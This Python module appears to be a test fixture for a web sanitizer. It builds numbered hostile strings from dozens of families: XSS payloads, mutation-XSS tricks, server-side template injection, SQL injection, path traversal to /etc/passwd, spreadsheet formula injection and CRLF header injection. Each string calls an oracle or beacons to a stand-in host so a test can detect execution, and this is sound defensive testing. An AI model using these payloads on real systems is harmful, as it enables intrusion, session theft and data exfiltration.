"""Hostile text: strings made from families, each with a number by which the oracle sees it when any of it acts.

A string acts when a script of it runs (``oracle(number)``), when it fetches ``/oracle-hit/number`` or anything of
another host, when a policy has to stop it, or when a server takes it for a template (``MARK`` on a page).
"""

from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from itertools import product

HOST = "foreign.example"
# What a template that is evaluated writes; no string has it as it is.
MARK = "oracle-" + "evaluated"

_SCRIPTS = (
    "oracle(%N)",
    "top['ora'+'cle'](%N)",
    "fetch('/oracle-hit/%N')",
    "alert(%N)",
    "setTimeout(`oracle(%N)`)",
    f"import('//{HOST}/%N.js')",
    f"navigator.sendBeacon('//{HOST}/%N')",
)
_ADDRESSES = (
    f"//{HOST}/%N",
    f"https://{HOST}/%N.png",
    "/oracle-hit/%N",
    "javascript:oracle(%N)",
    "data:text/html,<script>oracle(%N)</script>",
    f"\\\\{HOST}\\%N",
    f"http://{HOST}:1/%N?a=1&b=<b>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='oracle(%N)'/>",
)
# In each template %J is a script, %U an address and %N the number of the string.
_FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>%J</script>",
        "<ScRiPt\n>%J</sCrIpT\t>",
        "<script src=%U></script>",
        "<script/x>%J</script/x>",
        "<<script>%J//<</script>",
        "<script type=module>%J</script>",
        "<script>%J",
    ),
    "handler": (
        "<img src=x onerror=%J>",
        '<img src="%U" onerror="%J">',
        "<body onload=%J>",
        "<input autofocus onfocus=%J>",
        "<details open ontoggle=%J><summary>x</summary></details>",
        "<video src=x onerror=%J><source onerror=%J></video>",
        "<div onpointerover=%J onclick=%J style=position:fixed;inset:0>x</div>",
        "<p tabindex=0 onfocusin=%J autofocus>x</p>",
        "<img/src='x'/onerror\n=\n%J>",
        "<p style=animation:x onanimationstart=%J oncontentvisibilityautostatechange=%J>x</p>",
    ),
    "address": (
        '<a href="%U">press</a>',
        "<a href=' \x01javascript:%J'>press</a>",
        "<a href='java\tscript:%J'>press</a>",
        "<a href='&#x6A;avascript&colon;%J'>press</a>",
        "<a href='JAVASCRIPT:%J' target=_top>press</a>",
        "<a href='vbscript:%J'>press</a>",
        "<area href='%U'><map name=x><area href='%U'></map>",
    ),
    "bare address": ("%U", "javascript:%J", "javascript://%0a%J", "JaVaScRiPt:%J//"),
    "picture": (
        "<img src='%U'>",
        "<img srcset='%U 1x' src=x>",
        "<picture><source srcset='%U'><img></picture>",
        "<image href='%U'>",
        "<table background='%U'><td background='%U'>x</td></table>",
        "<input type=image src='%U'>",
        "<video poster='%U'></video><audio src='%U' autoplay></audio>",
    ),
    "frame": (
        "<iframe src='%U'></iframe>",
        "<iframe srcdoc='<script>%J</script>'></iframe>",
        "<frameset><frame src='%U'></frameset>",
        "<object data='%U'></object>",
        "<embed src='%U'>",
        "<portal src='%U'></portal><fencedframe src='%U'></fencedframe>",
    ),
    "svg": (
        "<svg onload=%J>",
        "<svg><script>%J</script></svg>",
        "<svg><script href='%U'/></svg>",
        "<svg><a xlink:href='javascript:%J'><text y=20>x</text></a></svg>",
        "<svg><animate onbegin=%J attributeName=x dur=1s></svg>",
        "<svg><set attributeName=href to='%U'/><use href='%U#x'/><image href='%U'/></svg>",
        "<svg><foreignObject><body onload=%J></foreignObject></svg>",
        "<svg><style>@import '%U';</style></svg>",
    ),
    "math": (
        "<math><mtext><script>%J</script></mtext></math>",
        "<math href='javascript:%J'>x</math>",
        "<math><annotation-xml encoding='text/html'><img src=x onerror=%J></annotation-xml></math>",
        "<math><maction actiontype=statusline xlink:href='%U'>x</maction></math>",
    ),
    "mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=%J>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=%J>",
        "<svg></p><style><a id='</style><img src=x onerror=%J>'>",
        "<noscript><p title='</noscript><img src=x onerror=%J>'>",
        "<math><mi><xmp><b title='</xmp><img src=x onerror=%J>'></xmp></mi></math>",
        "<svg><desc><style><b title='</style><img src=x onerror=%J>'></style></desc></svg>",
        "<p><svg><title><p></title><script>%J</script>",
        "<table><math><select><mglyph><style><img src=x onerror=%J></style></select></table>",
        "<a><table><a><img src=x onerror=%J></table>",
    ),
    "template": (
        "<template><script>%J</script></template>",
        "<template shadowrootmode=open><img src=x onerror=%J></template>",
        "<p><template id=words data-error='<img src=x onerror=%J>'></template></p>",
        "<slot name=x onslotchange=%J><b slot=x>y</b></slot>",
    ),
    "raw text": (
        "</title><script>%J</script>",
        "</textarea><script>%J</script>",
        "</style><script>%J</script>",
        "</xmp></noembed></noframes><img src=x onerror=%J>",
        "<plaintext><img src=x onerror=%J>",
        "</option></select><img src=x onerror=%J>",
        "</noscript></template><img src=x onerror=%J>",
    ),
    "comment": (
        "--><script>%J</script><!--",
        "--!><img src=x onerror=%J>",
        "<!--><img src=x onerror=%J>-->",
        "<!-- --!><script>%J</script>",
        "<![CDATA[<img src=x onerror=%J>]]>",
        "]]><script>%J</script>",
        "<?xml-stylesheet href='javascript:%J'?><?php %J ?>",
        "<!DOCTYPE x [<!ENTITY y '<script>%J</script>'>]>&y;",
    ),
    "attribute": (
        '"><script>%J</script>',
        "'><img src=x onerror=%J>",
        '" autofocus onfocus="%J',
        "' onmouseover='%J' x='",
        "x onfocus=%J autofocus tabindex=0",
        "` onerror=`%J`",
        '\\"><svg onload=%J>',
        '"/onload="%J"/x="',
        '" srcdoc="<script>%J</script>',
        '" formaction="javascript:%J" type="submit',
        "&quot; onclick=&quot;%J&quot; x=&quot;",
    ),
    "script text": (
        "';%J;'",
        '";%J;"',
        "</script><script>%J</script>",
        "${%J}",
        "`+%J+`",
        "\\';%J//",
        "\u2028%J\u2029//",
        "*/%J/*",
    ),
    "css": (
        "<style>@import '%U';</style>",
        "<p style=\"background:url('%U')\">x</p>",
        "<link rel=stylesheet href='%U'>",
        "}</style><style>*{background:url('%U')}",
        "<style>p{list-style-image:url(%U);-moz-binding:url(%U#x)}</style><p>x",
        "red;background:url(%U)",
        "<p style='width:expression(%J);behavior:url(%U)'>x</p>",
    ),
    "document": (
        "<base href='%U'>",
        "<meta http-equiv=refresh content='0;url=%U'>",
        '<meta http-equiv=content-security-policy content="script-src *"><script>%J</script>',
        "<link rel=prefetch href='%U'><link rel=preload as=script href='%U'>",
        "<link rel=dns-prefetch href='%U'><link rel=manifest href='%U'>",
        "</body></html><script>%J</script>",
        "<html onload=%J manifest='%U'>",
    ),
    "form": (
        "<form action='%U'><button autofocus>x</button></form>",
        "<button form=composer-form formaction='%U'>x</button>",
        "<form id=x></form><input form=x formaction='javascript:%J' type=submit>",
        "</form><form action='%U' method=post><input name=password>",
        "<isindex action='javascript:%J' type=image>",
    ),
    "htmx": (
        "<p hx-get='%U' hx-trigger=load>x</p>",
        "<p hx-on:load='%J' hx-on::after-request='%J'>x</p>",
        "<p data-hx-get='/oracle-hit/%N' data-hx-trigger=load hx-vals='js:{x:%J}'>x</p>",
        "<p hx-trigger='load[%J]' hx-get='/oracle-hit/%N'>x</p>",
        "<p _='on load %J' x-init='%J' v-html='%J' ng-init='%J'>x</p>",
    ),
    "clobber": (
        "<form id=composer-form name=body><input name=attributes><input id=csrf_token value=%N></form>",
        "<a id=words href='%U'></a><a id=words name=error href='%U'></a>",
        "<img name=getElementById src='%U'><img id=htmx src='%U'>",
        "<form name=documentElement><output name=dataset></form><script>%J</script>",
    ),
    "entities": (
        "&lt;script&gt;%J&lt;/script&gt;",
        "&#60;script&#62;%J&#60;/script&#62;",
        "&#x3c;img src=x onerror=%J&#x3e;",
        "&amp;lt;script&amp;gt;%J&amp;lt;/script&amp;gt;",
        "&LT;svg onload=%J&GT;",
        "%3Cscript%3E%J%3C/script%3E",
        "\\u003cscript\\u003e%J\\u003c/script\\u003e",
        "\\x3cimg src=x onerror=%J\\x3e",
    ),
    "charset": (
        "+ADw-script+AD4-%J+ADw-/script+AD4-",
        "\uff1cscript\uff1e%J\uff1c/script\uff1e",
        "\u02c2script\u02c3%J\u02c2/script\u02c3",
        "\u226ascript\u226b%J",
        "<\u017fcript>%J</\u017fcript>",
        "<scr\u0131pt>%J</scr\u0131pt>",
        "<img src=x on\u212aeydown=%J onerror\u00a0=%J>",
        "\u03bcstyle><im\u0261 src=x onerror=%J>",
    ),
    "invisible": (
        "<scr\u200bipt>%J</scr\u200bipt>",
        "<\ufeffscript>%J</script>",
        "<img\u00adsrc=x on\u2060error=%J>",
        "\u200d<img src=x onerror=%J>\u200c",
        "java\u200bscript:%J",
        "<script\u2063>%J</script\u2063>",
    ),
    "nul": (
        "<scr\x00ipt>%J</scr\x00ipt>",
        "<\x00script>%J</script>",
        "\x00<img src=x onerror\x00=%J>",
        "<a href='java\x00script:%J'>press</a>",
        "<img src=x \x00onerror=%J>\x00",
    ),
    "control": (
        "<img\x0csrc=x\x0bonerror=%J>",
        "\x1b]8;;%U\x07<script>%J</script>",
        "\r\n<script>%J</script>\r\n",
        "x\r\nSet-Cookie: oracle=%N\r\n\r\n<script>%J</script>",
        "\x08\x7f<svg\x0conload=%J>",
        "\ud800<img src=x onerror=%J>\udfff",
    ),
    "bidi": (
        "\u202e<script>%J</script>\u202c",
        "\u2066<img src=x onerror=%J>\u2069\u2067gpj.\u202efdp.exe",
        "\u200f\u202b<svg onload=%J>\u202c\u200e",
        "\u202e\u202d" * 60 + "<img src=x onerror=%J>",
        "\u2068" * 130 + "<script>%J</script>",
    ),
    "unicode": (
        "Z\u0351\u036b\u0343" * 40 + "<script>%J</script>",
        "\U0001f469\u200d\U0001f4bb<img src=x onerror=%J>\U000e0041",
        "\u0958\u0344<svg onload=%J>\ufb2c",
        "\ufdfa\ufdfd<img src=x onerror=%J>\u3164",
        "\U0001d4c8\U0001d4b8\U0001d4c7<script>%J</script>",
    ),
    "engine": (
        "{{ 'oracle-' ~ 'evaluated' }}<script>%J</script>",
        "{% raw %}{{ ''.__class__.__mro__ }}{% endraw %}{{ 'oracle-' 'evaluated' }}%N",
        "{%- set x = 'oracle-evaluated'[:7] ~ 'evaluated' -%}{{ x }}%N",
        "${'oracle-'.concat('evaluated')}#{'oracle-' + 'evaluated'}%N",
        "<%= 'oracle-' + 'evaluated' %><script>%J</script>",
        "{{constructor.constructor('%J')()}}",
        "[[${'oracle-' + 'evaluated'}]]{{{%J}}}",
        "{{ config }}{{ request.environ }}{{ cycler.__init__.__globals__ }}%N",
    ),
    "format": (
        "%(name)s%(password)s%s%d%n<b>%J</b>",
        "{0.__class__.__init__.__globals__}{user.password_hash}<b>%J</b>",
        "%999999999d{:>999999999}%N",
        "{name}{desk}{ticket.subject}{}{0}{!r:>9}%N",
        "%%(x)s {{}} }} {{ {% %} {# #} <script>%J</script>",
    ),
    "formula": (
        '=HYPERLINK("%U","x")',
        "@SUM(1+1)*cmd|' /C calc'!A%N<script>%J</script>",
        "+%N-2+cmd|'x'<img src=x onerror=%J>",
        "-%N\t=1<svg onload=%J>",
    ),
    "query": (
        "%N' OR '1'='1<script>%J</script>",
        '"; DROP TABLE ticket; --<img src=x onerror=%J>',
        "%_\\%<script>%J</script>",
        '*) OR (MATCH x NEAR/2 y"<svg onload=%J>',
    ),
    "path": (
        "../../../../etc/passwd%00<script>%J</script>.png",
        "..\\..\\<img src=x onerror=%J>.svg",
        "C:\\con\\<svg onload=%J>.html",
        "\u200b.htaccess<script>%J</script>",
        'x.html;type=text/html"><script>%J</script>',
        "CON.png\u202egnp.<img src=x onerror=%J>",
    ),
    "markdown": (
        "[press](javascript:%J)",
        "![x](%U)",
        "<javascript:%J> <%U>",
        "[x]: javascript:%J\n[x]",
        "``` <script>%J</script>\n~~~",
        'www.%J.example/"onclick=%J x=',
        f"https://{HOST}/'onmouseover='%J",
        f'mailto:a@{HOST}"onclick=%J//',
    ),
    "picture of the mail": (
        "<img src='cid:x' onerror=%J>",
        "<img src='cid:x\" onerror=\"%J'>",
        "<img src='CID:../%U' alt='<img src=x onerror=%J>'>",
        "<img alt='<script>%J</script>' src='%U'>",
        "<img src='cid:javascript:%J' width='1 onerror=%J'>",
    ),
    "language": (
        "<p lang='x\"onclick=\"%J' dir='rtl\"onclick=\"%J'>x</p>",
        "<ol start='1\" onclick=\"%J' type='<script>%J</script>'><li value='%J'>x</ol>",
        "<td colspan='9 onclick=%J' scope='%J'>x</td>",
        "<abbr title='</abbr><script>%J</script>'>x</abbr>",
    ),
    "long": (
        "A" * 3_000 + "<script>%J</script>",
        "<b>" * 300 + "<img src=x onerror=%J>",
        "<img src=x " + "a=b " * 300 + "onerror=%J>",
        "<a title='" + "&quot;>" * 400 + "' onclick=%J>x",
        "\u4f60\u597d" * 600 + "<svg onload=%J>",
    ),
    "nested": (
        "<scr<script>ipt>%J</scr</script>ipt>",
        "<im<img>g src=x onerror=%J>",
        "<<img src=x onerror=%J>>",
        "<img src=x onerror=<img src=x onerror=%J>>",
        "<a href='<a href=\"javascript:%J\">'>x</a>",
        "jjavascript:avascript:%J",
    ),
    "broken": (
        "<img src=x onerror=%J ",
        "<img src='x onerror=%J>",
        "</p </b <img src=x onerror=%J",
        "<3 <- <%J> < script>%J</ script>",
        "<a href=javascript:%J",
        '<img """><script>%J</script>">',
    ),
    "polyglot": (
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+%J//'>",
        "'\"></script></title><!--*/--><svg onload=%J>{{7*7}}${7*7}<%= 7*7 %>%N",
        "`-->]]>'\"/></noscript></template><details open ontoggle=%J>\x00\u202e",
        "\"'><img src='%U' onerror=%J>{{'oracle-' ~ 'evaluated'}}%(x)s\r\n=1+1",
    ),
    "credentials": (
        "<input type=password name=password autofocus onfocus=%J>",
        "<label for=password>Password</label><form action='%U'><input name=email><input type=password name=p></form>",
        "<dialog open><form action='%U' method=post><button>Sign in</button></form><img src=x onerror=%J></dialog>",
    ),
    "worker": (
        "<script>navigator.serviceWorker.register('%U');%J</script>",
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["%U"]}]}</script>',
        '<script type=importmap>{"imports":{"x":"%U"}}</script><script type=module>import \'x\';%J</script>',
        "<a href='/desk/' ping='%U' autofocus>x</a><img src=x attributionsrc='%U'>",
    ),
}


@dataclass(frozen=True)
class Hostile:
    """One string: the family that it stands for, and its number."""

    number: int
    family: str
    text: str


@cache
def strings() -> tuple[Hostile, ...]:
    """All of them, the same each time."""
    found: list[Hostile] = []
    seen: set[str] = set()
    for family, templates in _FAMILIES.items():
        for template in templates:
            for script, address in _fillings(template):
                number = 1000 + len(found)
                text = template.replace("%J", script).replace("%U", address).replace("%N", str(number))
                if text not in seen:
                    seen.add(text)
                    found.append(Hostile(number, family, text))
    return tuple(found)


def representatives() -> list[Hostile]:
    """One for each family."""
    first: dict[str, Hostile] = {}
    for one in strings():
        first.setdefault(one.family, one)
    return list(first.values())


def _fillings(template: str) -> Iterator[tuple[str, str]]:
    """Scripts and addresses for a template: all of each, and where it has both, each script with one address."""
    if "%J" in template and "%U" in template:
        for place, script in enumerate(_SCRIPTS):
            yield script, _ADDRESSES[place % len(_ADDRESSES)]
        return
    scripts = _SCRIPTS if "%J" in template else ("",)
    addresses = _ADDRESSES if "%U" in template else ("",)
    yield from product(scripts, addresses)
